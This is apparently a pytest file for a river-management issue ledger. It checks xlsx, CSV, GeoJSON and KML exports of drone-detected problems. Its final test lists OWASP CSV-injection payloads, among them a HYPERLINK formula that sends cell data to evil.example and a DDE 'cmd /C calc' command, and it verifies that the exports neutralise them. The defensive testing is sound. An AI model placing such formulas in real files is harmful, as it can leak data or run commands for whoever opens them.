"""Exports re-read: openpyxl for xlsx, csv with BOM, GeoJSON structure, KML as XML."""

from __future__ import annotations

import csv
import datetime as dt
import json
from xml.etree import ElementTree as ET

import pytest

from pipeline.ledger.export import HEADERS, KML_NS, export_issues
from pipeline.ledger.flight_rows import FlightRef
from pipeline.ledger.push import push_flight
from pipeline.ledger.queries import list_issues
from pipeline.ledger.workflow import transition
from tests.ledger.ledger_helpers import OUTSIDE_LAT, OUTSIDE_LON, det, flight_inputs

LABELS = {"luandui.garbage_pile": "垃圾堆放"}


@pytest.fixture
def issues(session_factory, zones):
    flight, frames, dets = flight_inputs("A")
    push_flight(
        session_factory=session_factory, flight=flight, frames=frames, detections=dets, zones=zones
    )
    late = [det("L1", at=(OUTSIDE_LAT, OUTSIDE_LON), when="2024-06-15T09:30:00", area_m2=1500.0)]
    push_flight(
        session_factory=session_factory,
        flight=FlightRef("late", "late"),
        frames=[],
        detections=late,
        zones=zones,
    )
    with session_factory.begin() as session:
        code = list_issues(session=session)[-1].code
        transition(session=session, code=code, to="confirmed", expected_version=1, actor="r")
    with session_factory() as session:
        return list_issues(session=session)


def test_list_filters(session_factory, issues) -> None:
    with session_factory() as session:
        assert [v.code for v in list_issues(session=session, status="confirmed")] == [
            "990101-2024-0003"
        ]
        assert len(list_issues(session=session, status="candidate")) == 3
        since = list_issues(session=session, since=dt.date(2024, 6, 1))
    assert [v.code for v in since] == ["000000-2024-0001"]
    assert (since[0].in_zone, since[0].severity) == (False, "serious")


def test_xlsx_is_a_ledger_with_chinese_headers(tmp_path, issues) -> None:
    from openpyxl import load_workbook

    out = export_issues(issues, "xlsx", tmp_path / "台账.xlsx", labels=LABELS)
    ws = load_workbook(out).active
    assert ws.title == "问题台账"
    assert "问题台账" in ws["A1"].value
    header = [c.value for c in ws[3]]
    assert header == list(HEADERS)
    assert header[:3] == ["序号", "问题编号", "河湖名称"]
    rows = [[c.value for c in row] for row in ws.iter_rows(min_row=4)]
    assert len(rows) == len(issues) == 4
    col = {h: i for i, h in enumerate(header)}
    first = rows[0]
    assert first[col["序号"]] == 1
    assert first[col["问题编号"]] == issues[0].code
    pile = next(r for r in rows if r[col["证据照片数"]] == 3)
    assert pile[col["问题类型"]] == "乱堆"
    assert pile[col["问题子类"]] == "垃圾堆放（luandui.garbage_pile）"
    assert pile[col["状态"]] == "待审核"
    assert pile[col["发现方式"]] == "无人机飞检"
    assert pile[col["是否在管理范围内"]] == "是"
    assert pile[col["河长"]] == "示例湖长"
    assert pile[col["发现时间"]] == dt.datetime(2024, 5, 1, 10, 0)
    view = next(v for v in issues if v.frames == 3)
    assert pile[col["问题编号"]] == view.code
    assert (pile[col["纬度（WGS-84）"]], pile[col["经度（WGS-84）"]]) == pytest.approx(
        (view.lat, view.lon), abs=1e-7
    )
    assert ws.freeze_panes == "C4"


def test_csv_has_a_bom_and_chinese_headers(tmp_path, issues) -> None:
    out = export_issues(issues, "csv", tmp_path / "ledger.csv")
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0] == list(HEADERS)
    assert len(rows) == 1 + len(issues)
    assert {r[HEADERS.index("状态")] for r in rows[1:]} == {"待审核", "已确认"}


def test_geojson_is_a_feature_collection_of_points(tmp_path, issues) -> None:
    out = export_issues(issues, "geojson", tmp_path / "ledger.geojson", labels=LABELS)
    data = json.loads(out.read_text(encoding="utf-8"))
    assert data["type"] == "FeatureCollection"
    assert len(data["features"]) == len(issues)
    for feature, view in zip(data["features"], issues, strict=True):
        assert feature["type"] == "Feature"
        assert feature["geometry"]["type"] == "Point"
        lon, lat = feature["geometry"]["coordinates"]
        assert (lat, lon) == pytest.approx((view.lat, view.lon), abs=1e-8)
        props = feature["properties"]
        assert {"code", "type", "status", "frames", "type_label", "status_label"} <= set(props)
        assert props["code"] == view.code and props["frames"] == view.frames


def test_kml_parses_with_placemarks_and_photo_links(tmp_path, issues) -> None:
    out = export_issues(issues, "kml", tmp_path / "ledger.kml", labels=LABELS)
    assert out.read_bytes().startswith(b"<?xml version='1.0' encoding='UTF-8'?>")
    root = ET.parse(out).getroot()
    ns = {"k": KML_NS}
    assert root.tag == f"{{{KML_NS}}}kml"
    marks = root.findall("k:Document/k:Placemark", ns)
    assert len(marks) == len(issues)
    for mark, view in zip(marks, issues, strict=True):
        assert mark.findtext("k:name", namespaces=ns).startswith(view.code)
        lon, lat, alt = (
            float(x) for x in mark.findtext("k:Point/k:coordinates", namespaces=ns).split(",")
        )
        assert (lat, lon, alt) == pytest.approx((view.lat, view.lon, 0.0), abs=1e-8)
        description = mark.findtext("k:description", namespaces=ns)
        assert "问题编号" in description
        assert ("file:///flights/" in description) == bool(view.photos)
        status = mark.find("k:ExtendedData/k:Data[@name='status']/k:value", ns).text
        assert status == view.status


def test_empty_ledger_exports(tmp_path) -> None:
    from openpyxl import load_workbook

    for fmt in ("xlsx", "csv", "geojson", "kml"):
        export_issues([], fmt, tmp_path / f"empty.{fmt}")
    assert [c.value for c in load_workbook(tmp_path / "empty.xlsx").active[3]] == list(HEADERS)
    assert json.loads((tmp_path / "empty.geojson").read_text())["features"] == []


def test_map_links_use_gcj02_but_the_ledger_keeps_wgs84() -> None:
    pytest.importorskip("pipeline.geo.coords")
    from urllib.parse import parse_qs, urlparse

    from pipeline.ledger.queries import amap_link

    lat, lon = 30.5928, 114.3055  # Wuhan: GCJ-02 is offset by a few hundred metres here
    query = parse_qs(urlparse(amap_link(lat, lon, "990101-2024-0001")).query)
    gcj_lon, gcj_lat = (float(x) for x in query["position"][0].split(","))
    assert query["coordinate"] == ["gaode"]
    assert 1e-4 < abs(gcj_lat - lat) + abs(gcj_lon - lon) < 1e-2
    assert amap_link(46.8427, -91.9940, "x").count("-91.9940000") == 1  # outside China: unchanged


#: OWASP's CSV-injection starts (=, +, -, @, tab, CR), each as a hostile payload.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_exports_carry_no_formulas(tmp_path, issues, payload) -> None:
    from dataclasses import replace

    from openpyxl import load_workbook

    hostile = [
        replace(
            issues[0],
            description=payload,
            responsible_unit=payload,
            photos=(payload + ".JPG", "/flights/B.JPG"),  # a relative frame path
        )
    ]
    xlsx = export_issues(hostile, "xlsx", tmp_path / "h.xlsx")
    row = next(load_workbook(xlsx).active.iter_rows(min_row=4))
    with export_issues(hostile, "csv", tmp_path / "h.csv").open(newline="") as f:
        csv_row = list(csv.reader(f))[1]
    for header in ("问题描述", "责任单位", "证据照片"):
        i = HEADERS.index(header)
        assert row[i].data_type == "s"  # a string cell, never a formula
        assert row[i].value.startswith("'" + payload.replace("\r", "\n"))  # XML reads CR as LF
        assert csv_row[i].startswith("'" + payload)
    for header in ("序号", "面积（平方米）", "经度（WGS-84）", "纬度（WGS-84）", "证据照片数"):
        i = HEADERS.index(header)
        assert row[i].data_type == "n"
        assert not csv_row[i].startswith("'")
    lon = HEADERS.index("经度（WGS-84）")
    assert row[lon].value == pytest.approx(issues[0].lon) and issues[0].lon < 0  # stays a number
    assert float(csv_row[lon]) == pytest.approx(issues[0].lon, abs=1e-7)
